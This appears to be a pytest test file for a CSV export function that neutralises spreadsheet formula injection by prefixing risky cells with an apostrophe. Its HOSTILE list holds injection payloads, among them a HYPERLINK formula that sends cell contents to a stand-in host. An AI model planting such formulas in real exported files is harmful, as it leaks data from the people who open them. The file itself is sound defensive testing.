"""Issue 18, hole 7: scores.csv and ledger.csv never carry a formula a spreadsheet would run."""

from __future__ import annotations

import io
from datetime import UTC, datetime

import polars as pl
import pytest

from flows.publish import spreadsheet
from flows.publish.spreadsheet import spreadsheet_safe_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+SUM(1,2)",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _read_back(data: bytes) -> pl.DataFrame:
    return pl.read_csv(io.BytesIO(data), infer_schema_length=0)  # every cell as the text written


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_would_run_as_a_formula_starts_with_an_apostrophe(value: str) -> None:
    frame = pl.DataFrame({"contact_id": [value], "agent_name": [value], "team": [value]})
    back = _read_back(spreadsheet_safe_csv(frame))
    assert back.row(0) == (f"'{value}",) * 3


def test_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
    frame = pl.DataFrame(
        {
            "contact_id": ["c-1", "c-2", None],
            "agent_id": ["a-1", "Ann = Bob", "x@y.example"],
            "overall": [-12.5, 80.0, None],
            "signals": [-3, 0, 7],
            "started_at": [datetime(2026, 11, 17, tzinfo=UTC)] * 3,
            "team": pl.Series(["-ops", "Billing", "=cmd"], dtype=pl.Categorical),
        }
    )
    back = pl.read_csv(io.BytesIO(spreadsheet_safe_csv(frame)))
    assert back["overall"].to_list() == [-12.5, 80.0, None]
    assert back["signals"].to_list() == [-3, 0, 7]
    assert back["contact_id"].to_list() == ["c-1", "c-2", None]
    assert back["agent_id"].to_list() == ["a-1", "Ann = Bob", "x@y.example"]
    assert back["team"].to_list() == ["'-ops", "Billing", "'=cmd"]
    assert back.schema["overall"] == pl.Float64
    assert back.schema["signals"] == pl.Int64


@pytest.mark.parametrize("rows", [0, 1, 6, 7, 13])
def test_the_csv_written_slice_by_slice_is_the_csv_of_the_whole(
    rows: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(spreadsheet, "CSV_SLICE_ROWS", 3)
    frame = pl.DataFrame(
        {
            "text": [f"=cmd{i}" if i % 2 else f"ok, {i}" for i in range(rows)],
            "n": list(range(rows)),
        },
        schema={"text": pl.String, "n": pl.Int64},
    )
    whole = spreadsheet.spreadsheet_safe(frame).write_csv().encode()
    assert spreadsheet.spreadsheet_safe_csv(frame) == whole
    assert whole.count(b"\n") == rows + 1  # one header, then every row once
